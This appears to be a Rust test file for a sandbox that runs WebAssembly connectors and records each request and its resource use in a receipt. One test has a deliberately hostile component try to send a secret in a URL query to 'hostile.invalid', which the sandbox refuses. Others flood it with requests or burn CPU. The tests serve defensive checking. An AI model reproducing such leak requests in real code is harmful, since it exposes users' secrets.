//! The receipt: every request that a connector made or tried, and what it used, whatever the end.

use serde_json::{Value, json};

use crate::support::harness::World;
use crate::support::hostile_component::Variant;

fn receipt(world: &World, behaviour: &str) -> Value {
    let file = world.file("hostile.wasm", Variant::Plain.bytes());
    let done = world
        .validate("{api}/v1")
        .arg("--component")
        .arg(file)
        .args(["--set", &format!("behaviour={behaviour}")])
        .args(["--secret-from", "api-key=env:HOST_RUNNER_API_KEY", "--json"])
        .args(["--max-guest-cpu-milliseconds", "200"])
        .done();
    done.json()["receipt"].clone()
}

#[test]
fn a_request_that_was_refused_is_there_without_its_query() {
    let world = World::new();
    let receipt = receipt(
        &world,
        "get url=https://me@hostile.invalid:99/leak?k=secret-in-the-query",
    );
    let request = &receipt["requests"][0];
    assert_eq!(request["url"], "https://hostile.invalid:99/leak");
    assert_eq!(
        (&request["fault"], &request["address"]),
        (&json!("refused"), &Value::Null)
    );
}

#[test]
fn requests_before_a_violation_are_there() {
    let world = World::new();
    let receipt = receipt(&world, "get times=6");
    let ends: Vec<_> = receipt["requests"]
        .as_array()
        .unwrap()
        .iter()
        .map(|request| (request["status"].as_u64(), request["fault"].as_str()))
        .collect();
    let answered = (Some(200), None);
    assert_eq!(
        ends,
        [
            answered,
            answered,
            answered,
            answered,
            (None, Some("refused"))
        ]
    );
}

#[test]
fn a_request_that_nobody_waited_for_is_there() {
    let world = World::new();
    let receipt = receipt(&world, "abandon");
    assert_eq!(receipt["requests"].as_array().unwrap().len(), 1);
    assert_eq!(receipt["requests"][0]["status"], 200, "the host waited");
}

/// What each instance used is added up.
#[test]
fn what_was_used_before_a_connector_was_stopped_is_there() {
    let world = World::new();
    let receipt = receipt(&world, "spin in=check rounds=4000000000");
    let (usage, limits) = (&receipt["usage"], &receipt["limits"]);
    let used = usage["guest_cpu_milliseconds"].as_u64().unwrap();
    assert!(
        used >= limits["guest_cpu_milliseconds"].as_u64().unwrap(),
        "{receipt}"
    );
    assert!(
        usage["peak_memory_bytes"].as_u64().unwrap() > 0,
        "{receipt}"
    );
}
